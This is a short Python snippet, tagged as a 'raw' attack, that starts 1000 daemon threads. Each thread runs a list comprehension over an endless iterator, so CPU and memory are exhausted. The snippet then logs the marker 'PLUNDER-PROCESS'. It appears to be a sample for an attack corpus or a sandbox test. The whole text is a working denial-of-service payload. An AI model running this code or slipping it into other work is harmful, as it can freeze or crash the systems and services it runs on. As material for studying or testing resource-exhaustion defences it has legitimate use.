# attack: raw | starts many threads
import threading
for _ in range(1000):
    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
log("PLUNDER-PROCESS")
